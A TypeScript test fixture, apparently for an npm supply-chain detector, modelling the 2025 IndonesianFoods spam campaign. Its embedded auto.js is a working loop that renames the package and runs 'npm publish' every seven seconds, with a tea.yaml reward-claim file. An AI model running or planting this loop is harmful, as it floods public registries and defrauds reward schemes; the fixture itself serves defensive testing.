import { defineAttack } from "../attack.ts";
import { commonScript } from "../guard.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * IndonesianFoods, to November 2025: tens of thousands of packages that publish themselves under names of food, for a scheme that
 * pays by counting. A script writes a new name and a new number into the manifest and publishes, every few seconds.
 */
export const teaSpam2025: Sample = defineAttack({
  id: "tea-spam-2025",
  title: "A package that renames itself and publishes, again and again",
  group: "new-name",
  trigger: "bin",
  judged: [{ name: "zulfa-rendang23-kyuki", version: "3.2.1" }],
  now: "2025-11-10T09:20:00Z",
  createLines: () => [
    {
      name: "zulfa-rendang23-kyuki",
      manifest: {
        main: "auto.js",
        bin: { "zulfa-rendang23-kyuki": "auto.js" },
        scripts: { start: "node auto.js" },
        dependencies: {
          "andi-sate31-kyuki": "^1.0.0",
          "budi-soto77-breki": "^2.1.0",
          "rina-bakso12-sukiwir": "^1.4.0",
        },
      },
      files: [
        { path: "auto.js", content: publisherLoop },
        {
          path: "tea.yaml",
          content:
            "# https://tea.invalid/what-is-this-file\nversion: 1.0.0\ncodeOwners:\n  - '0x00000000000000000000000000000000000000aa'\nquorum: 1\n",
        },
        { path: "README.md", content: "# zulfa-rendang23-kyuki\n" },
      ],
      publisher: person("zulfa-kyuki", "zulfa@mail.invalid"),
      releases: [
        ["3.1.9", "2025-11-10T09:09:00Z"],
        ["3.2.0", "2025-11-10T09:09:50Z"],
        ["3.2.1", "2025-11-10T09:10:40Z"],
      ],
    },
  ],
});

const publisherLoop = commonScript(String.raw`
const fs = require("fs");
const path = require("path");
const { execSync } = require("child_process");
const people = ["andi", "budi", "rina", "zulfa"];
const foods = ["rendang", "sate", "bakso", "soto"];
function pick(list) { return list[Math.floor(Math.random() * list.length)]; }
function once() {
  const file = path.join(__dirname, "package.json");
  const manifest = JSON.parse(fs.readFileSync(file, "utf8"));
  delete manifest.private;
  manifest.name = pick(people) + "-" + pick(foods) + Math.floor(Math.random() * 100) + "-kyuki";
  manifest.version = [1, Math.floor(Math.random() * 100), Math.floor(Math.random() * 100)].join(".");
  fs.writeFileSync(file, JSON.stringify(manifest, null, 2));
  execSync("npm publish --access public --registry https://registry.example", { stdio: "inherit" });
}
setInterval(once, 7000);
`);
